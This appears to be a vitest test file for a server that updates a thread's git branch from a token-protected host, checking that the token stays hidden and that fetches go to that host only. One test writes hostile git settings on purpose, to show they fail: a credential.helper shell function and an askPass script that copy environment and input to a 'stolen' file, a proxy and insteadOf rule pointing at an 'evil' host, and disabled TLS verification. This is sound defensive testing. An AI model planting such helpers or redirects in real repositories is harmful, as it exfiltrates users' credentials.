// A thread's branch is brought up to date from a host that lets git in with its owner's token alone: fetched from that host and
// no other, past whatever the repository's settings say, before it is trusted and afterwards, and without a trace of the token.
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest'
import {
  allProcesses,
  borrowings,
  otherName,
  otherToken,
  startOtherHost,
  startTokenHost,
  token,
  type OtherHost,
  type TokenHost,
} from '../../support/hosting/token-host.ts'
import { prompt } from '../../support/scripts.ts'
import { filesWith } from '../../support/secrets/files-with.ts'
import type { TestServer } from '../../support/server.ts'
import { rest } from '../../support/threads.ts'

let host: TokenHost
let evil: OtherHost
let server: TestServer
let outside: string
let address: string
let git: TokenHost['git']
let bare: string
let repository: string
let projectId: string
let id: string
let tree: string

beforeAll(async () => {
  host = await startTokenHost()
  evil = await startOtherHost(host)
  ;({ server, outside, address, git } = host)
  const settings = join(server.environment.HOME ?? '', '.gitconfig')
  git(outside, 'config', '--file', settings, 'fetch.unpackLimit', '1')
  repository = server.repository('shop', { 'a.txt': 'one\n' })
  bare = join(outside, 'shop.git')
  git(outside, 'clone', '-q', '--bare', repository, bare)
  git(repository, 'remote', 'add', 'origin', bare)
  git(repository, 'fetch', '-q', 'origin')
  git(repository, 'remote', 'set-url', 'origin', `${address}/shop.git`)
  projectId = await server.addProject(repository)
  const body = { projectId, baseBranch: 'origin/main', prompt: prompt('Hello', 'Hi.') }
  id = await server.thread(body)
  tree = (await rest(server, id)).worktreePath ?? ''
})
afterEach(() => {
  host.meanwhile = () => undefined
  host.instead = () => null
})
afterAll(async () => {
  await evil?.close()
  await host?.close()
})

const update = (from = 'base') =>
  server.api('POST', `/api/threads/${id}/update`, { from, how: 'merge' })
const tracked = () => git(repository, 'rev-parse', 'origin/main')

/** Somebody else's commit, which lies at the host alone. */
function commitThere(file: string): string {
  const work = join(outside, 'work')
  if (!existsSync(work)) git(outside, 'clone', '-q', bare, work)
  writeFileSync(join(work, file), `${file}\n`)
  git(work, 'add', '-A')
  git(work, '-c', 'user.name=B', '-c', 'user.email=b@example.test', 'commit', '-q', '-m', file)
  git(work, 'push', '-q', 'origin', 'HEAD:main')
  return git(work, 'rev-parse', 'HEAD')
}

async function trust(): Promise<void> {
  const path = `/api/projects/${projectId}/trust`
  const { fingerprint } = (await server.api('GET', path)).body
  expect((await server.api('POST', path, { fingerprint })).status).toBe(200)
}

/** What was fetched: as it came, it is kept. */
function packed(): number {
  return Number(/^in-pack: (\d+)/m.exec(git(repository, 'count-objects', '-v'))?.[1])
}

it('is refused where there is no token, and says where to give one', async () => {
  const before = tracked()
  commitThere('b.txt')
  const { status, body } = await update()
  expect([status, body.code]).toEqual([422, 'fetch_signed_out'])
  expect(body.detail).toContain('Give a token')
  expect(body.values).toMatchObject({ remote: 'origin' })
  expect(tracked()).toBe(before)
})

it('comes with the token, which stands nowhere while it does and afterwards [linux]', async () => {
  await host.giveToken()
  const theirs = git(bare, 'rev-parse', 'main')
  const refs = () =>
    git(
      repository,
      'for-each-ref',
      '--format=%(refname)',
      'refs/heads',
      'refs/remotes',
      'refs/tags',
    )
  const [before, had] = [refs(), packed()]
  let seen = ''
  const files: string[] = []
  host.meanwhile = () => {
    seen += allProcesses()
    for (const folder of [...borrowings(), repository, server.home])
      files.push(...filesWith(folder, token))
  }
  const { status, body } = await update()
  expect([status, body.kind]).toEqual([200, 'updated'])
  expect(tracked()).toBe(theirs)
  expect(readFileSync(join(tree, 'b.txt'), 'utf8')).toBe('b.txt\n')
  expect(seen).toContain('shop.git')
  expect([seen.includes(token), files]).toEqual([false, []])
  expect(host.shown(repository, tree)).toEqual([])
  // What is here already does not come again, and nothing else is left of it.
  expect([packed() - had, refs()]).toEqual([3, before])
})

it('tells of a branch that was never pushed as of that', async () => {
  expect((await update('upstream')).body.code).toBe('upstream_missing')
})

it('comes from nowhere else, whatever an agent wrote into the settings, trusted or not', async () => {
  const stolen = join(outside, 'stolen')
  const program = join(outside, 'asked')
  writeFileSync(
    program,
    `#!/bin/sh\n{ echo "$@"; env; cat <&3; } >> '${stolen}' 2>&1\necho wrong\n`,
    {
      mode: 0o755,
    },
  )
  const thief = `!f() { { echo "$1"; cat; cat <&3; } >> '${stolen}' 2>&1; }; f`
  for (const [key, value] of [
    ['credential.helper', thief],
    [`credential.${address}.helper`, thief],
    ['core.askPass', program],
    ['core.alternateRefsCommand', program],
    ['http.sslVerify', 'false'],
    ['http.extraHeader', 'X-Evil: 1'],
    // Git itself is led to the other host by it, which has a certificate that will do.
    ['http.proxy', evil.proxy],
  ] as const)
    git(repository, 'config', key, value)
  for (const file of ['untrusted.txt', 'trusted.txt']) {
    if (file === 'trusted.txt') await trust()
    const theirs = commitThere(file)
    expect((await update()).body.kind).toBe('updated')
    expect(tracked()).toBe(theirs)
  }
  expect(evil.told.length).toBeGreaterThan(1)
  expect(evil.told.join(' ')).not.toContain(Buffer.from(`ana:${token}`).toString('base64'))
  expect(readFileSync(stolen, 'utf8')).not.toContain('SECRET')
  git(repository, 'config', '--unset', 'http.proxy')
  git(repository, 'config', `url.${evil.address}/.insteadOf`, `${address}/`)
  for (const step of [() => undefined, trust]) {
    await step()
    const asked = evil.told.length
    expect((await update()).body.code).toBe('fetch_signed_out')
    expect(evil.told.length).toBeGreaterThan(asked)
  }
  expect(evil.told.join(' ')).not.toContain(Buffer.from(`ana:${token}`).toString('base64'))
  expect(readFileSync(stolen, 'utf8')).not.toContain('SECRET')
  expect(host.shown(repository)).toEqual([])
  for (const key of ['credential.helper', 'core.askPass', `url.${evil.address}/.insteadOf`])
    git(repository, 'config', '--unset', key)
})

it('is not handed to the host that a redirect leads to', async () => {
  const asked = evil.told.length
  host.instead = (path) => ({ status: 302, location: `${evil.address}${path}` })
  const { body } = await update()
  expect(body.code).toBe('fetch_signed_out')
  const told = evil.told.slice(asked)
  expect(told.length).toBeGreaterThan(0)
  expect(told.filter(Boolean)).toEqual([])
})

it.each([
  ['a token that the host does not know', 401],
  ['a token that may not see it', 403],
])('%s is said as that, and never shown', async (_, status) => {
  if (status === 401) await host.giveToken(otherToken, otherName)
  else host.instead = () => ({ status })
  const at = status === 401 ? host.otherAddress : address
  git(repository, 'remote', 'set-url', 'origin', `${at}/shop.git`)
  const { body } = await update()
  expect(body.code).toBe('fetch_signed_out')
  expect(JSON.stringify(body)).not.toContain('SECRET')
  expect(host.shown(repository)).toEqual([])
})
